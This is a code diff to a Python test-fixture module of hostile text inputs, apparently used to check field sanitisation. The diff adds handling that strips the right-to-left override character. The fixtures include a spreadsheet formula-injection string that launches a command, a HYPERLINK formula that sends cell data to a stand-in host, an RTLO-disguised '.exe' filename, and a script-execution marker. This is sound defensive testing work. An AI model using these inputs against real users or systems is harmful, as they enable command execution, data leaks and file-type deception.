@@ -15,6 +15,7 @@ MARK: Final = "Zq9"
 """Stands in every text, so that each is found wherever it went."""
 
 PLAIN: Final = "biasa"
+TURNED: Final = "\N{RIGHT-TO-LEFT OVERRIDE}"
 ACTS: Final = "globalThis.acted=1;document.title='acted'"
 
 _TEXTS: Final[Mapping[str, str]] = {
@@ -31,7 +32,7 @@ _TEXTS: Final[Mapping[str, str]] = {
     "entity": "&lt;script&gt; &amp; &#x202e; &nbsp; &quot;",
     "formula": "=cmd|' /C calc'!A0 =HYPERLINK(\"https://jahat.test?x=\"&A1;\"klik\") +1 -1 @SUM(1)\t=1+1",
     "formatting": "*tebal* _miring_ ~coret~ ```kode``` > kutipan\n- satu\n1. dua [nama](https://jahat.test)",
-    "letters turned": "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe\N{RIGHT-TO-LEFT OVERRIDE} 3 menit lagi",
+    "letters turned": f"{TURNED}gpj.exe{TURNED} 3 menit lagi",
     "embeddings left open": "\u2069\u2069\u202c\u202c \u202b\u202a\u2067\u2066\u2068 abc \u2067 12 (Kepala Dinas)",
     "Arabic": "مرحبا بالعالم 123 (abc) \N{RIGHT-TO-LEFT MARK}!",
     "nothing to be seen": "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u115f\u3164",
@@ -53,7 +54,9 @@ _FITS_A_NAME: Final = 200
 
 def typed(text: str) -> str:
     """What a member of staff could paste into a field, as it is kept: without controls."""
-    kept = (letter for letter in text if letter in "\n\t" or unicodedata.category(letter) != "Cc")
+    kept = (
+        letter for letter in text if letter in "\n\t" or (unicodedata.category(letter) != "Cc" and letter != TURNED)
+    )
     return "".join(kept)[:FITS_A_FIELD]
 
 
